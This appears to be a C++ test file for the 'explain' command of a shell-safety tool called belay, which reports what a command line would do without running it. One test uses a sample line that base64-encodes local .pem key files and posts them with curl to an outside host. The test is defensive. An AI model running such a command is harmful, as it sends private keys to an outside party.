#include <gmock/gmock.h>

#include "sandbox.h"

namespace belay {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class ExplainTest : public Sandbox {};

TEST_F(ExplainTest, ListsWhatALineWouldDoAndRunsNothing) {
  folder_.Write("repo/a.pem", "");
  const RunOutcome outcome =
      Belay({"explain", "--", "cat *.pem | base64 > out && curl -d @out https://example.org; $X"});
  EXPECT_EQ(outcome.exit_code, 0) << outcome.err;
  EXPECT_THAT(outcome.out, AllOf(HasSubstr("repo/a.pem"), HasSubstr("base64"),
                                 HasSubstr("https://example.org"), HasSubstr("unknown")));
  EXPECT_EQ(folder_.Read("repo/out"), "(missing)");
}

TEST_F(ExplainTest, ShowsTheSameInJson) {
  const RunOutcome outcome = Belay({"explain", "--json", "--", "make && git push"});
  const Result<Json> record = ParseJson(outcome.out);
  ASSERT_TRUE(record.ok()) << outcome.out;
  const Json::Array& effects = *record->Find("effects")->AsArray();
  ASSERT_EQ(effects.size(), 4U) << outcome.out;
  EXPECT_EQ(*effects[0].Find("what")->AsString(), "make");
  EXPECT_EQ(*effects[0].Find("certainty")->AsString(), "sure");
  EXPECT_EQ(*effects[1].Find("certainty")->AsString(), "unknown") << "its recipes";
  EXPECT_EQ(*effects[2].Find("certainty")->AsString(), "possible");
  EXPECT_EQ(*effects[3].Find("effect")->AsString(), "connect");
  EXPECT_EQ(*effects[3].Find("by")->AsString(), "git push");
}

TEST_F(ExplainTest, SeveralWordsAreAProgramAndItsArguments) {
  const RunOutcome outcome = Belay({"explain", "--", "cat", "a b", ";", "rm"});
  EXPECT_THAT(outcome.out, AllOf(HasSubstr("repo/a b"), HasSubstr("repo/;")));
  EXPECT_THAT(outcome.out, Not(HasSubstr("write")));
}

TEST_F(ExplainTest, WantsACommand) {
  EXPECT_EQ(Belay({"explain"}).exit_code, 2);
  EXPECT_EQ(Belay({"explain", "--", ""}).exit_code, 0);
  EXPECT_THAT(Belay({"explain", "--", "cd x"}).err, HasSubstr("runs no program"));
}

}  // namespace
}  // namespace belay
